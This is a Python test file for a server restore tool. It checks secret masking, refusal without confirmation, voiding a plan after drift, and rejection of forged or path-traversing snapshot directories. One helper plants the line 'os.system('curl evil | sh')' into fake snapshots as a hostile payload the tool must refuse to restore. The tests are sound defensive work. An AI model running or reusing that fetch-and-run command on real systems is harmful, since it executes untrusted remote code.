"""Tier 1: restore against a loopback host (no root): what the plan shows and never shows, what the CLI
refuses, and the guarantees of the apply step (plan void on drift, stale bytecode set aside, not deleted)."""

from __future__ import annotations

import hashlib
import json
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
import yaml

from bot.demo.host import ORIGINAL_FILES, DemoHost, demo_host
from commands.errors import PlanVoid
from commands.inventory import parse_inventory
from commands.operation import Origin
from commands.restore import apply_restore, request_restore
from commands.store import approvals
from commands.store.db import AuditStore
from tests.conftest import CliRun, fresh, run_cli, write_inventory

SECRET = "sk-live-abcdefghijklmnopqrstuv"
ORIGIN = Origin("cli:t", "cli")
SNAPSHOT_NAME = "20260101T000000Z-abc123"  # the shape of a real snapshot dir's name


@pytest_asyncio.fixture(loop_scope="session", scope="module")
async def lab() -> AsyncIterator[DemoHost]:
    """One loopback host for the module: each test gets its files afresh (``fresh``), not a new host."""
    async with demo_host("ct133") as host:
        yield host


def snapshot_root(host: DemoHost) -> Path:
    return Path(f"{host.backup_dir}.proofbot-snapshots")


def tree(root: Path) -> dict[str, str]:
    """Every file's sha-256 and every dir under root, but the lab's own keys and supervisord logs."""
    state = {}
    for path in sorted(root.rglob("*")):
        relative = path.relative_to(root)
        if relative.parts[0] in ("keys", "supervisor"):
            continue
        state[str(relative)] = "dir" if path.is_dir() else hashlib.sha256(path.read_bytes()).hexdigest()
    return state


async def restore_cli(host: DemoHost, tmp_path: Path, *args: str, document: dict[str, object] | None = None
                      ) -> CliRun:
    inventory = write_inventory(tmp_path / "inv.yml", document or host.inventory())
    return await run_cli("restore", host.name, *args, "--inventory", str(inventory), "--db", str(tmp_path / "a.db"))


def event_kinds(tmp_path: Path) -> list[str]:
    return [row[0] for row in sqlite3.connect(tmp_path / "a.db").execute("SELECT kind FROM events ORDER BY id")]


async def test_secrets_in_a_diff_are_masked_in_the_plan_and_the_audit_log(lab: DemoHost, tmp_path: Path) -> None:
    host = fresh(lab)
    host.live_dir.joinpath("spec_info.py").write_text(f'OPENAI_API_KEY={SECRET}\nclient(api_key="{SECRET}")\n')
    inventory = parse_inventory(yaml.safe_dump(host.inventory()), "i.yml")
    audit = AuditStore.open(tmp_path / "a.db")
    plan = await request_restore(inventory, inventory.host(host.name), origin=ORIGIN, audit=audit)
    audit.close()
    [change] = plan.changes
    assert SECRET not in change.diff and "[REDACTED]" in change.diff
    stored = json.dumps(sqlite3.connect(tmp_path / "a.db").execute("SELECT details FROM events").fetchall())
    assert SECRET not in stored


async def test_cli_without_yes_and_without_a_terminal_changes_nothing_exit_4(lab: DemoHost, tmp_path: Path) -> None:
    host = fresh(lab)
    before = tree(host.root)
    run = await restore_cli(host, tmp_path)
    assert run.code == 4, run.stdout + run.stderr
    assert "Restore plan for ct133" in run.stdout, "the plan is shown"
    assert "no terminal to ask for confirmation on" in run.stderr and "--yes" in run.stderr
    assert tree(host.root) == before, "a live file, the extra file or the backup changed"
    assert not snapshot_root(host).exists()
    assert event_kinds(tmp_path) == ["requested", "plan-shown", "refused"]


def plant_snapshot(path: Path, host: DemoHost) -> str:
    """A dir that looks like a proofbot snapshot whose manifest would put hostile bytes into a live file:
    were it accepted, `--undo --yes` would write them."""
    path.mkdir(parents=True, exist_ok=True)
    live = str(host.live_dir / "spec_info.py")
    (path / "spec_info.py").write_text("import os; os.system('curl evil | sh')\n")
    (path / "MANIFEST.json").write_text(json.dumps({"host": host.name, "files": {
        "spec_info.py": {"live_path": live, "sha256": "0" * 64, "absent": False}}}))
    return str(path)


async def test_undo_accepts_only_this_hosts_own_snapshot_dirs(lab: DemoHost, tmp_path: Path) -> None:
    host = fresh(lab)
    root = snapshot_root(host)
    other_backup = host.root / "other-host-backup"
    document = host.inventory()
    other = json.loads(json.dumps(document["hosts"][host.name]))
    other["backups"]["pre-ddtree"]["dir"] = str(other_backup)
    document["hosts"]["ct999"] = other
    typed = {
        "outside any snapshot root": plant_snapshot(host.root / "elsewhere" / SNAPSHOT_NAME, host),
        "traversal out of the root": f"{root}/../{SNAPSHOT_NAME}",
        "traversal inside the root": f"{root}/{SNAPSHOT_NAME}/../planted",
        "look-alike root": plant_snapshot(Path(f"{host.backup_dir}.proofbot-snapshots-old") / SNAPSHOT_NAME,
                                          host),
        "look-alike name": plant_snapshot(root / "latest", host),
        "another host's snapshot": plant_snapshot(Path(f"{other_backup}.proofbot-snapshots") / SNAPSHOT_NAME,
                                                  host),
    }
    plant_snapshot(host.root / SNAPSHOT_NAME, host)  # where the first traversal leads
    plant_snapshot(root / "planted", host)  # where the second one leads
    before = tree(host.root)
    for case, path in typed.items():
        run = await restore_cli(host, tmp_path, "--undo", path, "--yes", document=document)
        assert run.code == 2, f"{case}: {path} exited {run.code}: {run.stdout + run.stderr}"
        assert f"is not a proofbot snapshot of {host.name}" in run.stderr, case
        assert tree(host.root) == before, f"{case}: something was written"


async def approved_plan_then(host: DemoHost, tmp_path: Path, meanwhile: str) -> PlanVoid:
    """Plan and approve a restore, write ``meanwhile`` into the live file, then apply: it must be refused."""
    inventory = parse_inventory(yaml.safe_dump(host.inventory()), "i.yml")
    audit = AuditStore.open(tmp_path / "a.db")
    try:
        plan = await request_restore(inventory, inventory.host(host.name), origin=ORIGIN, audit=audit)
        decided = await approvals.decide(audit, plan.operation_id, "cli:approver", "approved", inventory.approvals)
        host.live_dir.joinpath("spec_info.py").write_text(meanwhile)
        with pytest.raises(PlanVoid) as raised:
            await apply_restore(plan, decided, actor=ORIGIN.actor, audit=audit, move_extras=True)
        return raised.value
    finally:
        audit.close()


async def test_file_edited_after_the_plan_voids_it_and_writes_nothing(lab: DemoHost, tmp_path: Path) -> None:
    host = fresh(lab)
    edited = "# edited by someone else meanwhile\n"
    void = await approved_plan_then(host, tmp_path, edited)
    assert void.exit_code == 4, "refused: the CLI exits 4"
    assert "spec_info.py" in void.message and "changed since the plan" in void.message
    assert host.live_dir.joinpath("spec_info.py").read_text() == edited
    assert host.live_dir.joinpath("ddtree_utils.py").exists(), "the extra file was not moved either"
    assert not snapshot_root(host).exists()
    kinds = event_kinds(tmp_path)
    assert kinds[-1] == "finished" and "approved" in kinds


async def test_stale_bytecode_of_a_restored_file_is_moved_into_the_snapshot(lab: DemoHost, tmp_path: Path) -> None:
    host = fresh(lab)
    cache = host.live_dir / "__pycache__"
    cache.mkdir()
    stale = {"spec_info.cpython-312.pyc": b"stale 3.12", "spec_info.cpython-311.opt-1.pyc": b"stale 3.11"}
    for name, data in stale.items():
        (cache / name).write_bytes(data)
    unrelated = cache / "eagle_info.cpython-312.pyc"  # eagle_info.py is identical: not restored
    unrelated.write_bytes(b"still valid")
    run = await restore_cli(host, tmp_path, "--yes", "--json")
    assert run.code == 0, run.stdout + run.stderr
    report = json.loads(run.stdout)
    assert report["restored"] == ["spec_info.py"]
    assert {c["name"]: c["status"] for c in report["checks"]}["bytecode"] == "pass"
    kept = Path(report["snapshot_dir"]) / "bytecode"
    for name, data in stale.items():
        assert not (cache / name).exists(), f"{name} left where Python would load it"
        assert (kept / name).read_bytes() == data, f"{name} not kept in the snapshot: nothing is deleted"
    assert unrelated.read_bytes() == b"still valid"


def evidence_by_check(run: CliRun) -> dict[str, dict[str, object]]:
    document = json.loads(run.stdout)
    return {check["name"]: check for check in document["checks"]}


async def test_nothing_to_restore_shows_each_file_its_own_read_as_evidence(lab: DemoHost, tmp_path: Path) -> None:
    """Every `file:` finding of a plan with nothing to apply carries the `sha256sum` of ITS source and live
    path (it used to carry `id`, then another file's `where` script, then the first file's hash)."""
    host = fresh(lab, patched=False, extra_file=False)
    run = await restore_cli(host, tmp_path, "--json")
    assert run.code == 0, run.stdout + run.stderr
    checks = evidence_by_check(run)
    assert set(checks) == {f"file:{name}" for name in ORIGINAL_FILES}
    for name in ORIGINAL_FILES:
        check = checks[f"file:{name}"]
        evidence = check["evidence"]
        assert isinstance(evidence, dict)
        command, output = str(evidence["command"]), str(evidence["output"])
        assert command.startswith("sha256sum -- "), command
        assert str(host.backup_dir / name) in command and str(host.live_dir / name) in command
        others = [other for other in ORIGINAL_FILES if other != name]
        assert not any(other in command or other in output for other in others), (name, command, output)
        digest = hashlib.sha256((host.live_dir / name).read_bytes()).hexdigest()
        assert output.count(digest) == 2 and check["status"] == "pass", (name, output)


async def test_an_unreadable_source_shows_each_file_its_own_read(lab: DemoHost, tmp_path: Path) -> None:
    """One backup copy gone (unreadable source), the other file differing: nothing is applied, and each
    finding says what its own read showed, with that read as evidence."""
    host = fresh(lab, extra_file=False)
    (host.backup_dir / "eagle_info.py").unlink()
    run = await restore_cli(host, tmp_path, "--json")
    assert run.code == 1, run.stdout + run.stderr
    checks = evidence_by_check(run)
    eagle, spec = checks["file:eagle_info.py"], checks["file:spec_info.py"]
    assert eagle["status"] == "error" and "No such file" in str(eagle["summary"])
    assert spec["status"] == "fail" and "not restored" in str(spec["summary"])
    for name, check in (("eagle_info.py", eagle), ("spec_info.py", spec)):
        evidence = check["evidence"]
        assert isinstance(evidence, dict)
        assert str(evidence["command"]) == f"sha256sum -- {host.backup_dir / name} {host.live_dir / name}"
    assert "DDTREE" in (host.live_dir / "spec_info.py").read_text(), "nothing written"
